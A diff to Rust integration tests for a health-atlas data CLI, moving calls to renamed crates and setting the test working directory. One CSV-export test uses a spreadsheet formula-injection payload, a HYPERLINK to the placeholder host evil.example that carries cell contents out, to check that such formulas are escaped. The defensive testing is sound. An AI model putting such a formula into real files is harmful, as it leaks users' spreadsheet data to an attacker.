@@ -6,6 +6,8 @@ use std::process::{Command, Output};
 
 fn atlas_data(args: &[&str]) -> Output {
     Command::new(env!("CARGO_BIN_EXE_atlas-data"))
+        // From the repository root, as a maintainer runs it (`data/events.json` below).
+        .current_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/../.."))
         .args(args)
         .output()
         .unwrap()
@@ -123,8 +125,8 @@ fn json_to_csv_to_json_round_trips_through_the_cli() {
     );
     let imported = atlas_data(&["import-csv", csv.to_str().unwrap(), "-o", json.to_str().unwrap()]);
     assert_eq!(imported.status.code(), Some(0), "{}", text(&imported.stderr));
-    let original = health_atlas::data::embedded_dataset().unwrap();
-    let back = health_atlas::data::parse_dataset(&std::fs::read_to_string(&json).unwrap()).unwrap();
+    let original = health_atlas_dataset::embedded_dataset().unwrap();
+    let back = health_atlas_model::parse_dataset(&std::fs::read_to_string(&json).unwrap()).unwrap();
     assert_eq!(back.events, original.events);
 }
 
@@ -133,7 +135,7 @@ fn export_csv_guards_formulas_and_import_csv_reads_them_back() {
     let json = scratch("formula.json");
     let csv = scratch("formula.csv");
     let back = scratch("formula-back.json");
-    let mut dataset = health_atlas::data::embedded_dataset().unwrap();
+    let mut dataset = health_atlas_dataset::embedded_dataset().unwrap();
     dataset.events.truncate(1);
     dataset.events[0].title.en = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into();
     dataset.events[0].note = "@SUM(A1:A9)".into();
@@ -145,7 +147,7 @@ fn export_csv_guards_formulas_and_import_csv_reads_them_back() {
     assert!(written.contains(",'@SUM(A1:A9)"), "{written}");
     let imported = atlas_data(&["import-csv", csv.to_str().unwrap(), "-o", back.to_str().unwrap()]);
     assert_eq!(imported.status.code(), Some(0), "{}", text(&imported.stderr));
-    let read = health_atlas::data::parse_dataset(&std::fs::read_to_string(&back).unwrap()).unwrap();
+    let read = health_atlas_model::parse_dataset(&std::fs::read_to_string(&back).unwrap()).unwrap();
     assert_eq!(read.events, dataset.events);
 }
 
